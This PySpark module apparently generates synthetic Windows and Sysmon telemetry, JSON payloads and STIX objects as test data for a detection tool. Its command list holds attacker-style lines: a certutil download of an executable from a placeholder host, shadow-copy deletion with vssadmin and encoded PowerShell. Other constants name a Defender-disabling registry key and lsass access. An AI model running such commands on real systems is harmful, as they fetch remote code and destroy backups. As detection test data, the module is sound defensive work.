"""The driver's tables seen as telemetry: one deterministic projection per shape.

Seven consecutive events form one binary process tree. Process creations own
their tree slot; other events happen inside the process of their parent slot,
so some parents are never observed.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession, functions as F

from emberwatch.functions.scalars import once
from emberwatch.session import load_table, spread

HOSTS = 8
IMAGES = (
    r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Program Files\Microsoft Office\WINWORD.EXE", r"C:\Users\Public\svchost.exe", r"C:\Windows\explorer.exe",
)
COMMANDS = (
    "whoami /all", "net user /domain", "ipconfig /all", "systeminfo", "tasklist /svc", "netstat -ano",
    "nltest /dclist:corp", "net view", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    "vssadmin delete shadows /all /quiet", "notepad.exe report.txt",
    "certutil -urlcache -f http://x.test/a.exe a.exe",
)
PORTS = ("443", "8443", "4444")
LEVELS = ("Medium", "High", "System", "AppContainer")
ACCESS = ("0x1010", "0x1438", "0x800", "0x400")
KEYS = (
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater",
    r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware",
    r"HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Start",
)


def _pick(values: tuple[str, ...], index: Column) -> Column:
    return F.element_at(F.lit(list(values)), (index % len(values) + 1).cast("int"))


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """`events` in the typed event schema."""
    e = spread(load_table(spark, sf_dir, "events"), "event_id")
    k = F.get_json_object("props", "$.k").cast("bigint")
    base = e.select(
        F.col("event_id").alias("seq"), F.col("ts").cast("timestamp").alias("timestamp"), "user_id", k.alias("k"),
        F.expr("event_id div 7").alias("grp"), (F.col("event_id") % 7).alias("pos"),
        F.when(F.col("event_type").isin("click", "view"), 1)
        .when(F.col("event_type").isin("signup", "purchase"), 3)
        .when(k % 2 == 0, 10).otherwise(13).alias("event_id"),
    )
    create, net = F.col("event_id") == 1, F.col("event_id") == 3
    slot = F.when(~create & (F.col("pos") > 0), F.expr("(pos - 1) div 2")).otherwise(F.col("pos"))
    base = base.withColumn("slot", slot)
    guid = lambda s: F.concat(F.lit("p"), (F.col("grp") * 7 + s).cast("string"))
    user = F.concat(F.lit("u"), F.col("user_id").cast("string"))
    raw = F.map_filter(
        F.create_map(
            F.lit("User"), user, F.lit("IntegrityLevel"), _pick(LEVELS, F.col("seq")),
            F.lit("Hashes"), F.when(create, F.concat(F.lit("SHA256="), F.sha2(F.col("k").cast("string"), 256), F.lit(",MD5=0"))),
            F.lit("DestinationIp"), F.when(net, F.concat(F.lit("45.132.0."), (F.col("user_id") % 10).cast("string"))),
            F.lit("DestinationPort"), F.when(net, _pick(PORTS, F.col("k"))),
            F.lit("TargetImage"), F.when(F.col("event_id") == 10, F.lit(r"C:\Windows\System32\lsass.exe")),
            F.lit("GrantedAccess"), F.when(F.col("event_id") == 10, _pick(ACCESS, F.expr("k div 2"))),
            F.lit("TargetObject"), F.when(F.col("event_id") == 13, _pick(KEYS, F.expr("k div 2"))),
        ),
        lambda key, value: value.isNotNull(),
    )
    return base.select(
        "seq", F.concat(F.lit("e"), F.col("seq").cast("string")).alias("event_uid"), F.col("event_id").cast("int"), "timestamp",
        F.concat(F.lit("H"), (F.col("grp") % HOSTS).cast("string")).alias("host"), user.alias("user"),
        guid(F.col("slot")).alias("process_guid"),
        F.when(F.col("slot") > 0, guid(F.expr("(slot - 1) div 2"))).alias("parent_process_guid"),
        (F.col("seq") % 65536).cast("int").alias("process_id"), _pick(IMAGES, F.col("user_id")).alias("image"),
        F.when(F.col("pos") > 0, _pick(IMAGES, F.col("user_id") + 2)).alias("parent_image"),
        F.when(create, _pick(COMMANDS, F.col("k"))).alias("command_line"), F.lit(None).cast("string").alias("parent_command_line"),
        raw.alias("raw"),
    )


def payloads(events: DataFrame) -> DataFrame:
    """Telemetry written back to JSON in every accepted shape, some broken: (seq, received_at, value)."""
    iso = F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'")
    spaced = F.date_format("timestamp", "yyyy-MM-dd HH:mm:ss.SSSSSS")
    fields = [F.col("image").alias("Image"), F.col("command_line").alias("CommandLine"), F.col("process_guid").alias("ProcessGuid"),
              F.col("parent_process_guid").alias("ParentProcessGuid"), F.col("user").alias("User")]
    pid = F.col("process_id").alias("ProcessId")
    data = F.struct(*fields, pid)
    enveloped = F.to_json(F.struct(iso.alias("@timestamp"), F.struct(
        F.col("event_id").cast("string").alias("event_id"), F.col("host").alias("computer_name"), data.alias("event_data")).alias("winlog")))
    nested = F.to_json(F.struct(spaced.alias("@timestamp"), "event_id", F.struct(F.col("host").alias("name")).alias("host"), data.alias("event_data")))
    flat = F.to_json(F.struct(F.col("event_id").alias("EventID"), F.col("host").alias("Computer"), spaced.alias("UtcTime"), *fields, pid))
    source = F.to_json(F.struct(F.lit("not a time").alias("@timestamp"), F.struct(
        F.lit("ten").alias("event_id"), F.col("host").alias("computer_name"),
        F.struct(*fields, F.lit("abc").alias("ProcessId"), F.lit("src.exe").alias("SourceImage"),
                 F.concat(F.lit("s"), F.col("process_guid")).alias("SourceProcessGUID")).alias("event_data")).alias("winlog")))
    padded = F.to_json(F.struct(F.col("event_id").alias("EventID"), F.repeat(F.lit("x"), 3000).alias("Pad")))
    odd = (
        F.when(F.col("seq") % 25 == 4, F.lit("broken{")).when(F.col("seq") % 25 == 9, F.lit("[1,2]"))
        .when(F.col("seq") % 25 == 14, F.lit('"text"')).when(F.col("seq") % 25 == 19, padded).otherwise(F.lit("{}"))
    )
    shape = F.col("seq") % 5
    value = F.when(shape == 0, enveloped).when(shape == 1, nested).when(shape == 2, flat).when(shape == 3, source).otherwise(odd)
    return events.select("seq", (F.col("timestamp") + F.expr("INTERVAL 1 HOUR")).alias("received_at"), once(value).alias("value"))


def evtx_records(events: DataFrame) -> DataFrame:
    """Telemetry as event-log records converted from XML, with its `#text` artefacts: (seq, value)."""
    text = lambda c: F.struct(c.alias("#text"))
    channel = F.when(F.col("seq") % 9 == 0, F.lit("Security")).when(F.col("seq") % 9 != 1, F.lit("Microsoft-Windows-Sysmon/Operational"))
    code = F.struct(F.struct(F.lit("5").alias("Version")).alias("#attributes"), F.col("event_id").alias("#text"))
    created = F.struct(F.struct(F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'").alias("SystemTime")).alias("#attributes"))
    system = F.struct(channel.alias("Channel"), code.alias("EventID"), F.col("host").alias("Computer"), created.alias("TimeCreated"))
    data = F.struct(text(F.col("image")).alias("Image"), F.col("user").alias("User"), text(F.col("process_guid")).alias("ProcessGuid"))
    record = F.to_json(F.struct(F.struct(system.alias("System"), data.alias("EventData")).alias("Event")))
    return events.select("seq", once(record).alias("value"))


def stix_source(spark: SparkSession, sf_dir: str) -> DataFrame:
    """`part` as STIX objects, one struct column `o`: some not techniques, some withdrawn, some without an id."""
    part = load_table(spark, sf_dir, "part")
    code = F.concat(F.lit("T"), (F.col("p_partkey") + 1000).cast("string"))
    other = F.struct(F.lit("capec").alias("source_name"), F.lit("C1").alias("external_id"), F.lit("u").alias("url"))
    mitre = F.struct(F.lit("mitre-attack").alias("source_name"), code.alias("external_id"), F.concat(F.lit("https://t/"), code).alias("url"))
    refs = F.when(F.col("p_size") % 11 == 0, F.array(other)).otherwise(F.array(other, mitre))
    phase = lambda chain, name: F.struct(F.lit(chain).alias("kill_chain_name"), name.alias("phase_name"))
    return part.select(F.struct(
        F.when(F.col("p_size") % 7 == 0, "malware").otherwise("attack-pattern").alias("type"), F.col("p_name").alias("name"),
        F.concat(F.lit(" "), F.col("p_type"), F.lit(" ")).alias("description"), (F.col("p_size") % 13 == 0).alias("revoked"),
        F.when(F.col("p_size") % 17 == 0, True).alias("x_mitre_deprecated"), refs.alias("external_references"),
        F.array(phase("mitre-attack", F.lower("p_type")), phase("other", F.lit("x"))).alias("kill_chain_phases"),
    ).alias("o"))
